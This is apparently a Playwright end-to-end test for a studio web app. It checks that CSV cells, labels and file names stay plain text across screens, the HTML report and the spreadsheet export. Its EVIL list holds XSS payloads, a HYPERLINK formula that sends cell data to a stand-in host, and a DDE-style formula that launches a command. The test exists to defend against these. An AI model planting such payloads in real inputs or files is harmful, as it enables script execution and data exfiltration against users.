import { writeFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { csv, type StepName } from './pages/studio';

const EVIL = [
  '<img src=stolen onerror="document.title=1">',
  '"><svg onload="document.title=1"><b>bold</b>',
  '</script><script>document.title=1</script>',
  '=HYPERLINK("http://e.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'javascript:document.title=1//{text}',
];
const LABELS = ['<img src=stolen onerror="document.title=1">good', '=1+1 bad'] as const;
const THINGS = ['chair', 'lamp', 'table', 'shelf', 'rug', 'bed', 'mirror', 'sofa', 'clock', 'vase'];

/** Rows that can be learned, each with something that one of its readers would execute. */
const FILE = csv(
  '<img src=stolen onerror=alert(1)>.csv',
  ['<b>text</b>', '=label()'],
  Array.from({ length: 90 }, (_, i) => [
    `The ${THINGS[i % 10]} number ${i} was ${i % 2 ? 'broken' : 'lovely'}. ${EVIL[i % EVIL.length]}`,
    LABELS[i % 2] ?? '',
  ]),
);

/** Nothing in the file has become part of a page. */
async function isText(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => ({
    title: document.title,
    elements: document.querySelectorAll('img[src="stolen"], svg[onload], [onerror], main b:not([class])').length,
  }));
  expect(found.title, where).not.toBe('1');
  expect(found.elements, where).toBe(0);
}

test('treats cells, labels, column and file names as text on every screen, in the report and in tables', async ({
  studio,
  context,
}, info) => {
  const { page, train, compare } = studio;
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  await studio.open();
  await studio.take(FILE);
  await expect(studio.lead).toContainText('<b>text</b>');
  await isText(page, 'Data');
  await studio.go('Train');
  await train.set({ Steps: 20 });
  await train.start();
  await train.ended();
  await studio.go('Compare');
  await compare.run.click();
  await compare.verdict();
  for (const step of ['Data', 'Prompts', 'Train', 'Compare', 'Playground', 'Library'] as const satisfies StepName[]) {
    await studio.go(step);
    await expect(studio.heading).toBeVisible();
    await isText(page, step);
  }

  await studio.go('Compare');
  const report = info.outputPath('report.html');
  await writeFile(report, await compare.report([/^Include /], /contain [1-9]\d* of your rows/));
  const table = await compare.report(['A spreadsheet', /^Include /], /contain [1-9]\d* of your rows/);
  expect(table).toContain("'=1+1 bad");
  expect(table).not.toMatch(/(?:^|,)"?[=@]/m);
  const reader = await context.newPage();
  await reader.goto(`file://${report}`);
  await expect(reader.getByRole('heading').first()).toBeVisible();
  await isText(reader, 'report');
  expect(asked.filter((url) => /stolen|e\.example/.test(url))).toEqual([]);
});
